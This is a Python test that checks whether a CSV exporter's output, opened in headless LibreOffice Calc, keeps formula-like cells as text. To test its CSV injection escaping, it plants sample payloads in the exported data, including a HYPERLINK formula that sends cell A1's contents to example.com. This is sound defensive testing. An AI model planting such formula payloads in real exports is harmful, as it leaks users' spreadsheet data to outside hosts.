"""`jixiao evaluate --format csv` opened by a real spreadsheet: LibreOffice Calc, headless.

Every cell that starts with = + - @ must arrive as text, never as a formula: the CSV is converted
to xlsx by soffice (UTF-8, formulas evaluated, as Calc opens a file by default) and the cells are
read back. Exits 77 (ctest SKIP_RETURN_CODE) when soffice is not installed: LibreOffice is an
optional test dependency (scripts/deps with JIXIAO_EXTRA_PACKAGES=libreoffice-calc-nogui).

usage: python3 tests/csv_spreadsheet_test.py PATH/TO/jixiao
"""
import json
import os
import shutil
import subprocess
import sys
import tempfile
import xml.etree.ElementTree as ET
import zipfile

HERE = os.path.dirname(os.path.abspath(__file__))
SHEET = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def cells_of(xlsx):
    """{"A1": (kind, text, formula)} of the first sheet: kind is the cell's t attribute."""
    with zipfile.ZipFile(xlsx) as z:
        names = z.namelist()
        strings = []
        if "xl/sharedStrings.xml" in names:
            strings = ["".join(t.text or "" for t in si.iter(SHEET + "t"))
                       for si in ET.fromstring(z.read("xl/sharedStrings.xml")).findall(SHEET + "si")]
        root = ET.fromstring(z.read("xl/worksheets/sheet1.xml"))
    cells = {}
    for c in root.iter(SHEET + "c"):
        v, f = c.find(SHEET + "v"), c.find(SHEET + "f")
        kind = c.get("t", "n")
        text = strings[int(v.text)] if kind == "s" and v is not None else (v.text if v is not None else "")
        cells[c.get("r")] = (kind, text, f.text if f is not None else None)
    return cells


def main():
    jixiao = sys.argv[1]
    soffice = shutil.which("soffice") or shutil.which("libreoffice")
    if soffice is None:
        print("SKIP: soffice (LibreOffice Calc) is not installed")
        return 77
    with open(os.path.join(HERE, "data", "zz-2021-geodata.json"), encoding="utf-8") as f:
        form = json.load(f)
    hyperlink = '=HYPERLINK("http://example.com/?"&A1,"点击")'
    form["indicators"][1]["name"] = hyperlink
    form["indicators"][2]["name"] = "@SUM(1,2)"
    form["indicators"][3]["name"] = "+1+1"
    form["indicators"][4]["name"] = "-1+1"
    work = tempfile.mkdtemp()
    try:
        source = os.path.join(work, "form.json")
        with open(source, "w", encoding="utf-8") as f:
            json.dump(form, f, ensure_ascii=False)
        csv = os.path.join(work, "scored.csv")
        with open(csv, "wb") as out:
            subprocess.run([jixiao, "evaluate", source, "--format", "csv"], stdout=out, check=True)
        # 44 comma, 34 quote, 76 UTF-8, line 1; token 13 (true): evaluate formulas, Calc's default.
        subprocess.run([soffice, "-env:UserInstallation=file://" + os.path.join(work, "profile"),
                        "--headless", "--infilter=CSV:44,34,76,1,,,false,false,false,false,false,-1,true",
                        "--convert-to", "xlsx", "--outdir", work, csv],
                       check=True, capture_output=True, timeout=300)
        cells = cells_of(os.path.join(work, "scored.xlsx"))
    finally:
        shutil.rmtree(work, ignore_errors=True)

    failures = []
    formulas = {ref: c for ref, c in cells.items() if c[2] is not None}
    if formulas:
        failures.append("cells that Calc read as formulas: %r" % formulas)
    texts = {c[1] for c in cells.values() if c[0] in ("s", "str", "inlineStr")}
    # Calc shows the ' before the text as written; Excel takes it as its text marker.
    for written in ("=100%", hyperlink, "@SUM(1,2)", "+1+1", "-1+1"):
        if "'" + written not in texts:
            failures.append("no text cell %r" % ("'" + written))
    # Figures are still numbers a spreadsheet can sum.
    numbers = [c for c in cells.values() if c[0] == "n" and c[1]]
    if len(numbers) < 30:
        failures.append("only %d number cells" % len(numbers))
    for failure in failures:
        print("FAIL:", failure)
    if not failures:
        print("ok: %d cells, no formula, every escaped cell is text" % len(cells))
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
